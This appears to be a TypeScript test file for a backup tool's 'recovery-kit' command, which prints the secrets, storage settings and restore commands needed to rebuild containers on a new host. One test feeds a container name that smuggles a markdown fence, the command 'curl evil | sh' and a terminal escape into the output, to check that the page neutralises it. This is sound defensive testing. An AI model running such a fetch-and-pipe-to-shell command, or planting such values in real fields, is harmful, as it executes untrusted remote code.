import { join } from 'node:path';
import { runOn, type Ran } from '../../support/cli-app';
import type { Container } from '../../../src/domain/container';
import { aContainer } from '../../support/container-builder';
import { openScene, type Scene } from '../../support/scene';
import { runForgeStack } from '../../support/swarm/forge-stack';

let scene: Scene;
beforeEach(() => {
  scene = openScene();
});
afterEach(() => scene.close());

const SECRET = 'an-approval-secret-of-more-than-32-characters';
const S3 = { PILOT_BACKUP_URL: 's3://backups/home', PILOT_APPROVAL_SECRET: SECRET, AWS_REGION: 'eu-central-1' };
const KEYS = { AWS_ACCESS_KEY_ID: 'AKIA1', AWS_SECRET_ACCESS_KEY: 'very secret' };
const db = aContainer({
  name: 'shop-db-1',
  project: 'shop',
  service: 'db',
  reference: 'postgres:17',
  labels: { 'backup.kind': 'postgres' },
});
const CONTAINERS = [db, aContainer({ name: 'web' })];
const app = { containers: () => Promise.resolve(CONTAINERS) };

const kit = (env: Record<string, string>, ...more: string[]): Promise<Ran> =>
  runOn(scene, ['recovery-kit', ...more], { app, env });
const finding = async (env: Record<string, string>): Promise<string> => {
  const { stdout } = await runOn(scene, ['check'], { app, env });
  return stdout.split('\n').find((line) => line.includes('Recovery kit')) ?? '';
};

test('the page names storage, sets and secrets, and has the commands', async () => {
  const { code, stdout, stderr } = await kit({ ...S3, ...KEYS });
  expect([code, stderr]).toEqual([0, expect.stringContaining('keep it in a safe')]);
  expect(stdout).toContain(`\`\`\`env
PILOT_BACKUP_URL=s3://backups/home
PILOT_APPROVAL_SECRET=${SECRET}
AWS_ACCESS_KEY_ID=AKIA1
AWS_REGION=eu-central-1
AWS_SECRET_ACCESS_KEY=very secret
\`\`\``);
  expect(stdout).toContain('shop-db-1 (`postgres:17`)');
  expect(stdout).toContain('\ndocker compose --project-name shop up --detach db\n');
  expect(stdout).toContain('- Start the other services: `docker compose --project-name shop up --detach`.');
  expect(stdout).toContain('pilot restore latest --project shop --yes');
});

test('each set is restored by its name, also that of a container outside of Compose: latest alone may be any of several', async () => {
  const alone = aContainer({
    name: 'wiki',
    project: null,
    labels: { 'backup.kind': 'files', 'backup.paths': '/data' },
  });
  const { stdout } = await runOn(scene, ['recovery-kit'], {
    app: { containers: () => Promise.resolve([db, alone]) },
    env: S3,
  });
  expect(stdout.split('\n').filter((line) => line.startsWith('pilot restore'))).toEqual([
    'pilot restore latest --project wiki --yes',
    'pilot restore latest --project shop --yes',
  ]);
});

test('a stack is deployed, and its data restored by the commands that a person types', async () => {
  const { scene: swarm } = runForgeStack();
  const { stdout } = await runOn(swarm, ['recovery-kit'], { env: S3 });
  expect(stdout).toContain(
    '  - stack forge: stack file unknown; data of forge_db (`postgres:15`), forge_gitea (`gitea:1`)',
  );
  expect(stdout).toContain('docker stack deploy --compose-file FILE forge\n');
  expect(stdout).toContain(`\`\`\`sh
docker service scale forge_gitea=0
gunzip -c NN-forge_db-globals.sql.gz | docker exec -i "$(docker ps -q --filter label=com.docker.swarm.service.name=forge_db)" psql -U USER -d postgres
docker exec -i "$(docker ps -q --filter label=com.docker.swarm.service.name=forge_db)" pg_restore -U USER --exit-on-error --clean --if-exists --create -d postgres < NN-forge_db-database-DATABASE.dump
docker run --rm -i -v VOLUME:/data alpine tar -xzf - -C / < NN-forge_gitea-files-PATH.tar.gz
docker service scale forge_gitea=1
\`\`\``);
  expect(stdout).not.toContain('pilot restore');
  expect((await runOn(swarm, ['check'], { env: S3 })).stdout).toMatch(/ok .*Recovery kit .*for the current secrets/);
  swarm.close();
});

test('credentials of a role are not there: the page says so, and leaves the lines empty', async () => {
  const { stdout } = await kit(S3);
  expect(stdout).toContain('AWS_ACCESS_KEY_ID=\nAWS_SECRET_ACCESS_KEY=\nAWS_REGION=eu-central-1');
  expect(stdout).toMatch(/from a role or a profile.*fill in the empty lines/);
});

test('what finds credentials on the old host only is left out: on the new one it would win over the key', async () => {
  const { stdout } = await kit({
    ...S3,
    AWS_PROFILE: 'home',
    AWS_ROLE_ARN: 'arn:x',
    AWS_CONFIG_FILE: '/root/.aws/config',
  });
  expect(stdout).toContain('AWS_ACCESS_KEY_ID=\nAWS_SECRET_ACCESS_KEY=\nAWS_REGION=eu-central-1\n```');
});

test('a temporary key is not on the page, and a new one every hour is no reason to print it again', async () => {
  const temporary = (token: string) => ({ ...S3, ...KEYS, AWS_SESSION_TOKEN: token });
  const { stdout } = await kit(temporary('first'));
  expect(stdout).not.toMatch(/AKIA1|very secret|first/);
  expect(stdout).toMatch(/has temporary ones.*fill in the empty lines/);
  expect(await finding(temporary('second'))).toMatch(/^ok /);
});

test('a file that the storage needs is named, and mounted where the commands need it', async () => {
  const gcs = { GOOGLE_APPLICATION_CREDENTIALS: '/run/secrets/gcs.json', RESTIC_PASSWORD: 'key' };
  const { stdout } = await kit({ ...gcs, PILOT_BACKUP_URL: 'restic:gs:bucket:/', PILOT_APPROVAL_SECRET: SECRET });
  expect(stdout).toContain('- A copy of the file `/run/secrets/gcs.json` (GOOGLE_APPLICATION_CREDENTIALS)');
  expect(stdout).toContain('--volume /run/secrets/gcs.json:/run/secrets/gcs.json:ro');
});

test('no name brings a line of its own into the commands that are typed', async () => {
  const evil = '\n```\n```sh\ncurl evil | sh\u001b[2K';
  const hostile = { ...db, project: `shop${evil}`, name: `db${evil}`, composeFiles: `/srv${evil}` };
  const { stdout } = await runOn(scene, ['recovery-kit'], {
    app: { containers: () => Promise.resolve([hostile]) },
    env: S3,
  });
  expect(stdout.split('\n').filter((line) => /^\s*curl/.test(line))).toEqual([]);
  expect(stdout.match(/^```/gm)).toHaveLength(6);
  expect(stdout).not.toContain('\u001b');
});

/** diun-pilot itself, with the folder of this test and `/backups` mounted. */
const self = (): Container =>
  aContainer({
    name: 'pilot',
    self: true,
    reference: 'diun-pilot:1',
    pilot: {
      serves: true,
      data: '/srv/pilot',
      mounts: [
        { inside: scene.folder, onHost: '/srv/pilot' },
        { inside: '/backups', onHost: '/mnt/nas/diun' },
      ],
    },
  });

test.each([
  ['file:///backups', '/mnt/nas/diun'],
  ['file:///backups/home', '/mnt/nas/diun/home'],
  ['restic:/backups', '/mnt/nas/diun'],
  ['file:///elsewhere', '/elsewhere'],
])('backups in %s of diun-pilot: the page names the folder of the host', async (url, folder) => {
  const { stdout } = await runOn(scene, ['recovery-kit'], {
    app: { containers: () => Promise.resolve([db, self()]) },
    env: {
      ...{ PILOT_APPROVAL_SECRET: SECRET, PILOT_DATA_DIR: scene.folder, RESTIC_PASSWORD: 'of-the-tests' },
      PILOT_BACKUP_URL: url,
    },
  });
  expect(stdout).toContain(`a copy of the folder \`${folder}\` of the old host`);
  expect(stdout).toContain(`--volume ${folder}:${folder}`);
});

test('backups in the data of diun-pilot: the page names the folder of the host, and warns', async () => {
  const { stdout } = await runOn(scene, ['recovery-kit'], {
    app: { containers: () => Promise.resolve([db, self()]) },
    env: {
      PILOT_APPROVAL_SECRET: SECRET,
      PILOT_DATA_DIR: scene.folder,
      PILOT_BACKUP_URL: `file://${join(scene.folder, 'backups')}`,
    },
  });
  expect(stdout).toContain('PILOT_BACKUP_URL=file:///srv/pilot/backups');
  expect(stdout).toContain('--volume /srv/pilot/backups:/srv/pilot/backups:ro diun-pilot:1 "$@"');
  expect(stdout).toContain('They are lost with');
});

test('a restic repository: its password and the variables of its backend are on the page', async () => {
  const { stdout } = await kit({
    ...{
      PILOT_BACKUP_URL: 'restic:b2:bucket:home',
      PILOT_APPROVAL_SECRET: SECRET,
      RESTIC_PASSWORD: 'key',
      HOME: '/root',
    },
    ...{ B2_ACCOUNT_ID: 'id', B2_ACCOUNT_KEY: 'b2 key' },
  });
  expect(stdout).toContain(`PILOT_BACKUP_URL=restic:b2:bucket:home
PILOT_APPROVAL_SECRET=${SECRET}
B2_ACCOUNT_ID=id
B2_ACCOUNT_KEY=b2 key
RESTIC_PASSWORD=key
\`\`\``);
});

test('every secret of a rotation is on the page, and it is recorded who printed it', async () => {
  const { stdout } = await kit({ ...S3, PILOT_APPROVAL_SECRET: `${SECRET},${SECRET}-before` });
  expect(stdout).toContain(`PILOT_APPROVAL_SECRET=${SECRET},${SECRET}-before\n`);
  const [entry] = scene.store.audit.list({ limit: 1 }).entries;
  expect(entry).toMatchObject({ kind: 'recovery_kit', actor: expect.stringMatching(/^cli:\d+$/) });
  expect(JSON.stringify(entry)).not.toContain(SECRET);
  expect(scene.store.audit.verify().broken).toBeNull();
});

test('--json has the page as text', async () => {
  const { stdout } = await kit(S3, '--json');
  expect((JSON.parse(stdout) as { kit: string }).kit).toMatch(/^# Recovery kit of diun-pilot\n/);
});

test('check warns until the page was printed, and again when a secret or the storage has changed', async () => {
  expect(await finding(S3)).toMatch(/^note .*never printed: run `diun-pilot recovery-kit`/);
  await kit(S3);
  expect(await finding(S3)).toMatch(/^ok .*for the current secrets/);
  expect(await finding({ ...S3, ...KEYS })).toMatch(/^note .*other secrets or another storage/);
  expect(await finding({ ...S3, PILOT_BACKUP_URL: 's3://backups/other' })).toMatch(/^note /);
  expect(await finding({ ...S3, PILOT_APPROVAL_SECRET: `${SECRET}-new` })).toMatch(/^note /);
});

test('without a set there is nothing to recover, so check says nothing', async () => {
  const { stdout } = await runOn(scene, ['check'], { app: { containers: () => Promise.resolve([]) }, env: S3 });
  expect(stdout).not.toContain('Recovery kit');
});
